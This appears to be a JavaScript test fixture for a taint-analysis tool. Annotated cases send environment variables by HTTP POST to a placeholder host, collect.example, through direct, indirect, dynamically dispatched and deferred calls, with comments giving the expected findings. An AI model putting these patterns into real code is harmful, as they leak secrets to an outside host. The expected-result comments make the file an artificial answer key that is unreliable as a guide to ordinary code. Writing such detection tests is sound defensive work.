// Functions of libraries that are called through parameters and fields of plain objects.
const api = { send: fetch, quiet: console.log };

function each(call, body) {
  call('https://collect.example/', { method: 'POST', body }); //~ sink(egress.http) o1, finding(traced) o1
}

function run() {
  each(fetch, process.env.A); //~ source(ENVIRONMENT) o1
  api.send('https://collect.example/', { method: 'POST', body: process.env.B }); //~ source(ENVIRONMENT) o2, sink(egress.http) o2, finding(traced) o2
  api.quiet('https://collect.example/', { method: 'POST', body: process.env.C }); //~ ok
}

class Dispatcher {
  onRead() { return process.env.D; } //~ source(ENVIRONMENT) o3
  onPing() { return 'pong'; }
  dispatch(name) { return this[`on${name}`](); }
}

function serve(name) {
  const dispatcher = new Dispatcher();
  fetch('https://collect.example/', { method: 'POST', body: dispatcher.dispatch(name) }); //~ sink(egress.http) o3, finding(ambiguous) o3
}

function report(text) {
  fetch('https://collect.example/', { method: 'POST', body: text }); //~ MISSING:finding(ambiguous) o4
}

function deferred(soon) {
  const later = soon ? setImmediate : setTimeout;
  later(report, 10, process.env.E); //~ source(ENVIRONMENT) o4
}
